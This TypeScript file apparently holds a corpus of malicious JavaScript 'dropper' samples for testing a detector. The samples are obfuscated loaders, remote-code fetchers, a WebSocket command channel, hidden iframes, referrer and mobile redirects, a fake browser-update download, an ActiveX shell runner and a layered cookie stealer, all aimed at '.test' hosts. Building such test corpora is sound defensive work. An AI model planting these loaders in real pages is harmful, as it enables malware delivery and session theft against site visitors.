import { backwards, base64, characterCodes, exclusiveOr, percentEscapes } from './hiding.ts';
import type { MaliciousSample } from './malicious-sample.ts';

const dropper = (name: string, technique: string, code: string): MaliciousSample => ({
  name,
  technique,
  family: 'malware',
  code,
});

const loader =
  "var s=document.createElement('script');s.src='https://load.drop.test/x.js';document.head.appendChild(s);";

export const droppers: readonly MaliciousSample[] = [
  dropper(
    'eval-base64',
    'Decodes code and runs it',
    `var p = '${base64(loader)}'; eval(atob(p)); document.currentScript.remove();`,
  ),
  dropper(
    'char-codes',
    'Code as a list of character codes',
    `eval(String.fromCharCode(${characterCodes(loader)}));`,
  ),
  dropper(
    'xor-loop',
    'Code as numbers with an exclusive or',
    `var d=[${exclusiveOr(loader, 23)}],o='';for(var i=0;i<d.length;i++){o+=String.fromCharCode(d[i]^23);}(new Function(o))();`,
  ),
  dropper(
    'decoder-function',
    'A decoder function, its result goes to the constructor of functions',
    `function dec(a, k) { var r = ''; for (var i = 0; i < a.length; i++) { r += String.fromCharCode(a.charCodeAt(i) - k); } return r; }
    var q = 'wbs!t>epdvnfou/dsfbufFmfnfou)(tdsjqu(*'; [].constructor.constructor(dec(q, 1))();
    window['ev' + 'al'](dec(q, 1));`,
  ),
  dropper(
    'unescape-write',
    'Writes a script element that was percent-encoded',
    `document.write(unescape('${percentEscapes('<script src="https://write.drop.test/a.js"></script>')}'));`,
  ),
  dropper(
    'decoded-source',
    'Loads a script from an address in base64',
    `(function (d, t, u) { var s = d.createElement(t); s.async = 1; s.src = atob(u); d.getElementsByTagName('head')[0].appendChild(s); })(document, 'script', '${base64('https://src.drop.test/l.js')}');`,
  ),
  dropper(
    'reversed-source',
    'Loads a script from an address that is written backwards',
    `var a = document.createElement('script'); a.src = '${backwards('https://rev.drop.test/l.js')}'.split('').reverse().join('');
    var c = String.fromCharCode(104, 101, 97, 100); document[c].appendChild(a); if (/google|bing|yahoo/.test(document.referrer)) location.replace('https://rev.drop.test/go');`,
  ),
  dropper(
    'socket-commands',
    'Runs what comes over a socket',
    `var host = 'wss://c2.drop.test/s'; var w = new WebSocket(host + '?h=' + location.host);
    w.onmessage = function (m) { new Function(m.data)(); }; w.onclose = function () { setTimeout(function () { location.reload(); }, 6e4); };`,
  ),
  dropper(
    'fetch-and-eval',
    'Gets code from another host, decodes and runs it',
    `fetch('https://pay.drop.test/cfg').then(function (r) { return r.text(); }).then(function (t) { eval(atob(t)); });`,
  ),
  dropper(
    'xhr-and-function',
    'Gets code with an XMLHttpRequest, decodes and runs it',
    `var x = new XMLHttpRequest(); x.open('GET', 'https://xhr.drop.test/a.txt', false); x.send();
    if (x.status === 200) { var code = x.responseText.split('').reverse().join(''); (0, eval)(atob(code)); }`,
  ),
  dropper(
    'search-visitor-redirect',
    'Redirects visitors from search engines to another host',
    `(function () { var r = document.referrer; if (!/google\\.|bing\\.|yahoo\\./i.test(r) || /seen=1/.test(document.cookie)) return;
      document.cookie = 'seen=1; max-age=86400'; var to = atob('${base64('https://win.drop.test/prize')}'); window.location.href = to; })();`,
  ),
  dropper(
    'mobile-redirect',
    'Redirects phones to an address put together from codes',
    `if (/android|iphone/i.test(navigator.userAgent)) { var u = [${characterCodes('https://app.drop.test/m')}].map(function (c) { return String.fromCharCode(c); }).join(''); top.location = u; }`,
  ),
  dropper(
    'fake-update',
    'Offers a program as an update',
    `var o = document.createElement('div'); o.innerHTML = '<h1>Your browser is out of date</h1><button id=u>Update</button>'; document.body.appendChild(o);
    document.getElementById('u').onclick = function () { var a = document.createElement('a'); a.href = atob('${base64('https://upd.drop.test/ChromeUpdate.exe')}'); a.download = 'ChromeUpdate.exe'; a.click(); };`,
  ),
  dropper(
    'embedded-program',
    'Builds a program from text and offers it',
    `var b = 'TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAAA'; var u = Uint8Array.from(atob(b), function (c) { return c.charCodeAt(0); });
    var a = document.createElement('a'); a.href = URL.createObjectURL(new Blob([u])); a.download = 'setup.exe'; a.click();`,
  ),
  dropper(
    'system-shell',
    'Starts a program with objects of Windows',
    `var sh = new ActiveXObject('WScript.Shell'); var st = new ActiveXObject('ADODB.Stream');
    st.Open(); st.Type = 1; st.SaveToFile('%TEMP%\\\\a.tmp', 2); sh.Run('cmd /c %TEMP%\\\\a.tmp', 0);`,
  ),
  dropper(
    'hidden-frame-decoded',
    'Writes a hidden frame that was encoded',
    `document.write(atob('${base64('<iframe src="https://frame.drop.test/kit" width="1" height="1" style="display:none"></iframe>')}')); document.write('<iframe width=0 height=0 src="//frame.drop.test/2"></iframe>');`,
  ),
  dropper(
    'script-text',
    'Makes a script element with decoded text',
    `var e = document.createElement('script'); e.text = decodeURIComponent(escape(atob('${base64(loader)}'))); document.documentElement.appendChild(e);`,
  ),
  dropper(
    'layers',
    'Three layers of encoded code around a thief of cookies',
    `eval(atob('${base64(`eval(atob('${base64(`eval(unescape('${percentEscapes("new Image().src='https://deep.drop.test/?'+document.cookie;")}'))`)}'))`)}'));`,
  ),
  dropper(
    'string-array-loader',
    'A loader behind an array of texts that is turned and looked up by number',
    `var _0x4a1c=['${base64('script')}','${base64('createElement')}','${base64('https://arr.drop.test/s.js')}','${base64('appendChild')}','${base64('head')}','${base64('src')}'];
    (function(_0x2b,_0x3c){while(--_0x3c){_0x2b['push'](_0x2b['shift']());}}(_0x4a1c,0x1));
    function _0x5d(_0x6e){_0x6e=_0x6e-0x10;return atob(_0x4a1c[_0x6e]);}
    var _0x7f=document[_0x5d(0x11)](_0x5d(0x10));_0x7f.src=_0x5d(0x12);document[_0x5d(0x14)][_0x5d(0x13)](_0x7f);var _0x8a=document.createElement('script');_0x8a.src=_0x5d(0x12);`,
  ),
  dropper(
    'debugger-loader',
    'Disturbs debuggers and runs decoded code',
    `setInterval(function () { (function () {}).constructor('debugger')(); }, 100);
    var k = 7, z = '${exclusiveOr(loader, 7)}'.split(','); var s = z.map(function (n) { return String.fromCharCode(n ^ k); }).join(''); setTimeout(function () { Function(s)(); }, 3000);`,
  ),
];
